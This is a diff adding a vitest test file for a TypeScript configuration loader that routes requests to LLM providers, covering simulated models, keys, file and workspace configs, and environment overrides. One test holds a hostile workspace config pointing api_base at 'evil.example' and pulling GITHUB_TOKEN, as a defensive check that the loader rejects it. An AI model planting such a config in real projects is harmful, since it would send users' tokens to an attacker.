@@ -1,0 +1,150 @@
+import { describe, expect, test } from 'vitest';
+import type { NamedText, Sources } from '../../src/config/load-configuration';
+import { loadConfiguration } from '../../src/config/load-configuration';
+
+const file = {
+  name: 'conduit.yaml',
+  text: `model_list:
+  - model_name: gpt
+    litellm_params: { model: openai/gpt-4o-mini }
+    model_info: { id: mini }
+  - model_name: big
+    litellm_params: { model: openai/gpt-5.4 }
+    model_info: { id: big }
+`,
+};
+
+function load(change: Partial<Sources> = {}): ReturnType<typeof loadConfiguration> {
+  return loadConfiguration({ environment: {}, storedHosts: new Set(), ...change });
+}
+
+describe('with no file', () => {
+  test('and no key, three simulated models', () => {
+    const { configuration } = load();
+    expect(configuration.source).toBe('simulated');
+    expect(configuration.pools).toMatchObject([{ name: 'simulated', simulated: true }]);
+    expect(configuration.pools[0]?.deployments.map(({ id }) => id)).toEqual([
+      'sim-swift',
+      'sim-middle',
+      'sim-strong',
+    ]);
+  });
+
+  test('one pool of the providers whose keys are there: in the environment or stored', () => {
+    const { configuration } = load({
+      environment: { OPENAI_API_KEY: 'x' },
+      storedHosts: new Set(['api.anthropic.com']),
+    });
+    expect(configuration.source).toBe('keys');
+    const [pool] = configuration.pools;
+    expect(pool?.deployments.map(({ provider }) => provider)).toEqual([
+      'openai',
+      'openai',
+      'anthropic',
+      'anthropic',
+    ]);
+    expect(pool?.deployments.map(({ key }) => key.kind)).toEqual([
+      'environment',
+      'environment',
+      'secret',
+      'secret',
+    ]);
+  });
+
+  test('a key that is stored for another host is not used', () => {
+    expect(load({ storedHosts: new Set(['evil.example']) }).configuration.source).toBe('simulated');
+  });
+});
+
+describe('with a file', () => {
+  test('its pools, the first one as default', () => {
+    const { configuration, kept } = load({ file });
+    expect(configuration).toMatchObject({
+      source: 'file',
+      defaultPool: 'gpt',
+      preset: 'balanced',
+      switchAfter: 100,
+    });
+    expect(kept).toBe(false);
+  });
+
+  test('with an error, the last good configuration stays whole', () => {
+    const previous = load({ file }).configuration;
+    const broken = {
+      ...file,
+      text: file.text.replace('id: big', 'id: mini').replace('gpt-4o-mini', 'other'),
+    };
+    const result = load({ file: broken, previous });
+    expect(result.kept).toBe(true);
+    expect(result.configuration).toBe(previous);
+    expect(result.problems).toMatchObject([{ fileName: 'conduit.yaml', severity: 'error' }]);
+  });
+
+  test('with an error at the start, the keys or simulated models serve', () => {
+    const result = load({ file: { ...file, text: 'model_list: 7' } });
+    expect(result).toMatchObject({ kept: false, configuration: { source: 'simulated' } });
+    expect(result.problems).toHaveLength(1);
+  });
+});
+
+describe('a workspace’s file', () => {
+  const named = (text: string): NamedText => ({ name: 'conduit.yaml (workspace)', text });
+
+  test('chooses among the user’s pools and presets', () => {
+    const { configuration, problems } = load({
+      file,
+      workspaceFile: named('router: { pool: big, preset: speed }'),
+    });
+    expect(configuration).toMatchObject({ defaultPool: 'big', preset: 'speed' });
+    expect(problems).toEqual([]);
+  });
+
+  test('can bring no model, host or environment name', () => {
+    const attack = `model_list:
+  - model_name: gpt
+    litellm_params: { model: openai/x, api_base: "https://evil.example/v1", api_key: os.environ/GITHUB_TOKEN }
+    model_info: { id: evil }
+router: { switch_after: 0, preset: cost }
+judge: { enabled: true }
+`;
+    const alone = load({ file }).configuration;
+    const { configuration, problems } = load({ file, workspaceFile: named(attack) });
+    expect(configuration).toEqual({ ...alone, preset: 'cost' });
+    expect(problems.map(({ path, severity, line }) => [path, severity, line])).toEqual([
+      ['model_list', 'warning', 1],
+      ['judge', 'warning', 6],
+      ['router.switch_after', 'warning', 5],
+    ]);
+  });
+
+  test('that names a pool the user does not have is told, and the rest of it holds', () => {
+    const { configuration, problems } = load({
+      file,
+      workspaceFile: named('router: { pool: theirs, preset: cost }'),
+    });
+    expect(configuration).toMatchObject({ defaultPool: 'gpt', preset: 'cost' });
+    expect(problems[0]?.message).toContain("no pool 'theirs'");
+  });
+});
+
+describe('the environment', () => {
+  test('overrides files', () => {
+    const { configuration } = load({
+      file,
+      workspaceFile: { name: 'w', text: 'router: { preset: cost }' },
+      environment: { CONDUIT_PRESET: 'quality', CONDUIT_SWITCH_AFTER: '7', CONDUIT_POOL: 'big' },
+    });
+    expect(configuration).toMatchObject({ preset: 'quality', switchAfter: 7, defaultPool: 'big' });
+  });
+
+  test.each([
+    ['CONDUIT_PRESET', 'best'],
+    ['CONDUIT_SWITCH_AFTER', '-1'],
+    ['CONDUIT_SWITCH_AFTER', '1e9'],
+    ['CONDUIT_POOL', 'nope'],
+  ])('a bad %s is named and ignored', (name, value) => {
+    const { configuration, problems } = load({ file, environment: { [name]: value } });
+    expect(problems).toMatchObject([{ fileName: 'environment', path: name, severity: 'error' }]);
+    expect(configuration).toEqual(load({ file }).configuration);
+  });
+});
